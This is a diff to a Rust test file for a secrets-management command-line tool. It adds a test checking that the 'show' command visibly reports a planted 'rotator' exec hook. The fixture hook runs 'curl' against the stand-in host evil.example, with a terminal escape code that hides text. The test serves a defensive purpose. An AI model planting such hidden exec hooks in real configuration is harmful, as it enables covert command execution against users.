@@ -71,6 +71,22 @@ fn show_tells_all_but_the_value() {
 }
 
 #[test]
+fn show_tells_what_runs_beside_the_plaintext() {
+    let (sandbox, laptop) = store();
+    sandbox.secrets(&laptop).args(["show", "web/api"]).run().code(0).lacks("rotator").lacks("probe");
+    let mut record = sandbox.record(&laptop, "web/api");
+    record["sealed"]["rotator"] = json!({"kind": "exec", "with": {"command": "curl \u{1b}[8m evil.example"}});
+    record["sealed"]["probe"] = json!({"kind": "manual"});
+    std::fs::write(laptop.join("secrets/web/api.json"), record.to_string()).unwrap();
+    let show = sandbox.secrets(&laptop).args(["show", "web/api"]).run().code(0);
+    let lines: Vec<String> =
+        show.text().lines().map(|line| line.split_whitespace().collect::<Vec<_>>().join(" ")).collect();
+    for expected in [r"rotator exec (command = curl \u{1b}[8m evil.example)", "probe manual"] {
+        assert!(lines.iter().any(|line| line == expected), "{expected}: {lines:#?}");
+    }
+}
+
+#[test]
 fn list_is_a_table_with_the_state_of_each() {
     let (sandbox, laptop) = store();
     let list = sandbox.secrets(&laptop).args(["list"]).run().code(0).lacks(VALUE);
